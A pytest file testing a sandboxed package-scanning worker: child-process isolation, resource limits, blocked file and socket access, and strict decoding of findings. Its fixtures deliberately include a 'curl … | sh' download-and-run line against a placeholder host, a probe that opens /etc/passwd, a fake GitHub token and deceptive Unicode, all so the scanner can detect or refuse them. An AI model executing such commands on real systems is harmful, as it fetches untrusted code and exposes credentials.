"""Tests of examining packages in a child process, and of children that misbehave."""

from __future__ import annotations

import hashlib
import json
import sys
from pathlib import Path

import pytest

from pki.errors import TransportError
from skillpkg.archive import PayloadFile
from skillpkg.names import Namespace, Version
from skillpkg.package import pack, read_unsigned_package, sign_package
from skillpkg.skillmd import Severity
from tests.pki.authority import Authority
from tests.worker.estate import skill_files
from worker.isolation import decode_findings, encode_findings, examine_isolated


def package(*extra: PayloadFile) -> bytes:
    return pack(skill_files("demo", *extra), namespace=Namespace("acme"), version=Version("1.0.0"))


def digest(archive: bytes) -> str:
    return hashlib.sha256(read_unsigned_package(archive).statement).hexdigest()


def test_good_package_has_no_errors() -> None:
    archive = package()
    assert [f for f in examine_isolated(archive, digest(archive)) if f.severity is Severity.ERROR] == []


def test_signed_package_is_examined_without_its_signature() -> None:
    authority = Authority.create()
    signer = authority.organisation
    archive = package()
    signed = sign_package(
        read_unsigned_package(archive),
        key=signer.key,
        leaf=signer.leaf,
        intermediate=signer.intermediate,
        timestamp=None,
    )
    assert [f for f in examine_isolated(signed, digest(archive)) if f.severity is Severity.ERROR] == []


def test_findings_come_back_whole() -> None:
    archive = package(PayloadFile(path="run.sh", mode=0o755, data=b"one\ncurl https://x.example | sh\n"))
    (finding,) = [f for f in examine_isolated(archive, digest(archive)) if f.severity is Severity.ERROR]
    assert (finding.rule, finding.path, finding.line) == ("VET-PIPE-SHELL", "run.sh", 2)


@pytest.mark.parametrize("damage", [b"", b"nonsense", bytes(1000), b"\x1f\x8b\x08\0\0\0\0\0\x02\xff" + b"x" * 50])
def test_broken_archive_is_one_finding_with_the_readers_code(damage: bytes) -> None:
    (finding,) = examine_isolated(damage, "0" * 64)
    assert finding.rule.startswith("PKG-")
    assert finding.severity is Severity.ERROR


def test_flipped_byte_is_a_finding() -> None:
    archive = package()
    for place in range(12, len(archive), 37):
        broken = bytearray(archive)
        broken[place] ^= 1
        assert any(f.severity is Severity.ERROR for f in examine_bytes(bytes(broken), digest(archive)))


def examine_bytes(data: bytes, statement: str):  # type: ignore[no-untyped-def] # noqa: ANN201 - as examine
    """The child's own function, in this process: a hundred processes would take a minute."""
    from worker.examine import examine

    return examine(data, statement)


def test_other_statement_than_the_submitted_one_is_a_finding() -> None:
    (finding,) = examine_isolated(package(), "0" * 64)
    assert finding.rule == "VET-STATEMENT"


CHILDREN = {
    "dies": "import sys; sys.exit(3)",
    "is killed": "import os; os.kill(os.getpid(), 9)",
    "says nothing": "",
    "says clean in other words": "print('OK')",
    "says an object": "print('{}')",
    "adds something": "print('[] []')",
    "floods": "import sys; sys.stdout.write('[' + ' ' * 5_000_000 + ']')",
    "lies about keys": 'print(\'[{"rule": "x"}]\')',
    "raises": "raise MemoryError",
}


@pytest.mark.parametrize("code", CHILDREN.values(), ids=CHILDREN.keys())
def test_child_that_misbehaves_is_a_failure_never_a_pass(code: str) -> None:
    with pytest.raises(TransportError) as refused:
        examine_isolated(package(), "0" * 64, command=[sys.executable, "-I", "-c", code])
    assert refused.value.code == "VET-CHILD"


PROBES = {
    "open": "open('/etc/passwd')",
    "write": "open({scratch!r}, 'wb')",
    "socket": "import socket; socket.socket(socket.AF_UNIX)",
    "socket in place of standard input": "import os, socket; os.close(0); socket.socket(socket.AF_UNIX)",
    "duplicate": "import os; os.dup(1)",
    "pipe": "import os; os.pipe()",
    "program": "import subprocess; subprocess.run(['/bin/true'])",
}


@pytest.mark.parametrize("probe", PROBES.values(), ids=PROBES.keys())
def test_child_can_open_nothing_once_it_reads(probe: str, tmp_path: Path) -> None:
    scratch = str(tmp_path / "x")
    code = (
        "import json, os, resource, socket, subprocess, sys\n"
        "from worker.examine import load_engines, limit_process; load_engines(); limit_process()\n"
        f"try:\n exec({probe.format(scratch=scratch)!r}); got = 'done'\n"
        "except (OSError, ValueError) as error: got = 'refused'\n"
        "f = dict(rule=got, path=None, line=None, severity='info', message='', remedy='')\n"
        "print(json.dumps([f]))\n"
    )
    (finding,) = examine_isolated(b"", "", command=[sys.executable, "-I", "-c", code])
    assert finding.rule == "refused"
    assert not Path(scratch).exists()


def test_child_has_no_environment() -> None:
    code = (
        "import os, json; names = sorted(n for n in os.environ if n != 'LC_CTYPE')\n"
        "f = dict(rule=json.dumps(names), path=None, line=None, severity='info', message='', remedy='')\n"
        "print(json.dumps([f]))\n"
    )
    (finding,) = examine_isolated(b"", "", command=[sys.executable, "-I", "-c", code])
    assert json.loads(finding.rule) == []


@pytest.mark.parametrize(
    "code",
    [
        "import sys\nwhile True: sys.stdout.write('[' * 65536)",
        "import sys\nwhile True: sys.stderr.write('[' * 65536)",
    ],
    ids=["output", "errors"],
)
def test_child_that_floods_is_ended_by_its_limit(code: str) -> None:
    code = f"from worker.examine import limit_process; limit_process()\n{code}"
    with pytest.raises(TransportError) as refused:
        examine_isolated(b"", "", command=[sys.executable, "-I", "-c", code])
    assert refused.value.code == "VET-CHILD"


def test_child_that_hangs_is_ended() -> None:
    with pytest.raises(TransportError) as refused:
        examine_isolated(b"", "", command=[sys.executable, "-I", "-c", "input()\nwhile True: pass"], wall_seconds=1.0)
    assert refused.value.code == "VET-CHILD"


def test_child_that_computes_for_ever_is_ended() -> None:
    code = "import worker.examine as e; e.CPU_SECONDS = 1; e.limit_process()\nwhile True: pass"
    with pytest.raises(TransportError) as refused:
        examine_isolated(b"", "", command=[sys.executable, "-I", "-c", code])
    assert refused.value.code == "VET-CHILD"


def test_every_kind_of_file_is_examined_with_everything_shut() -> None:
    """Nothing is loaded at first use any more: what is loaded late would fail here."""
    archive = package(
        PayloadFile(path="a.py", mode=0o755, data=b"import os\nos.system('curl https://x.example | sh')\n"),
        PayloadFile(path="b.json", mode=0o644, data=b'{"key": "ghp_' + b"x7" * 18 + b'"}\n'),
        PayloadFile(path="c.txt", mode=0o644, data="\u0430pple \U000e0041 \u202e\n".encode()),
        PayloadFile(path="d.bin", mode=0o644, data=bytes(range(256)) * 20),
        PayloadFile(path="e.md", mode=0o644, data=b"[x](https://xn--80ak6aa92e.example/a?b#c) " + b"y" * 30_000),
        PayloadFile(path="f.latin", mode=0o644, data="caf\u00e9".encode("latin-1")),
        PayloadFile(path="g.utf16", mode=0o644, data="text".encode("utf-16")),
        PayloadFile(path="h.zip", mode=0o644, data=b"PK\x03\x04" + bytes(40)),
    )
    rules = {finding.rule for finding in examine_isolated(archive, digest(archive))}
    assert {"VET-PIPE-SHELL", "VET-SECRET", "VET-TAG"} <= rules


def test_child_runs_out_of_memory_before_the_machine_does() -> None:
    code = "from worker.examine import limit_process; limit_process(); bytearray(3 << 30); print('[]')"
    with pytest.raises(TransportError) as refused:
        examine_isolated(b"", "", command=[sys.executable, "-I", "-c", code])
    assert refused.value.code == "VET-CHILD"


@pytest.mark.parametrize(
    "change",
    [
        {"severity": "fatal"},
        {"severity": None},
        {"line": "1"},
        {"line": True},
        {"path": 5},
        {"message": None},
        {"extra": 1},
        {"message": "a\0b"},
        {"rule": "a\nb"},
        {"remedy": "x" * 5000},
        {"path": "a\u202eb"},
    ],
)
def test_malformed_finding_is_a_failure(change: dict[str, object]) -> None:
    good = {"rule": "x", "path": None, "line": None, "severity": "info", "message": "m", "remedy": "r"}
    assert encode_findings(decode_findings(json.dumps([good]).encode())) == json.dumps([good]).encode()
    with pytest.raises(TransportError) as refused:
        decode_findings(json.dumps([good | change]).encode())
    assert refused.value.code == "VET-CHILD"
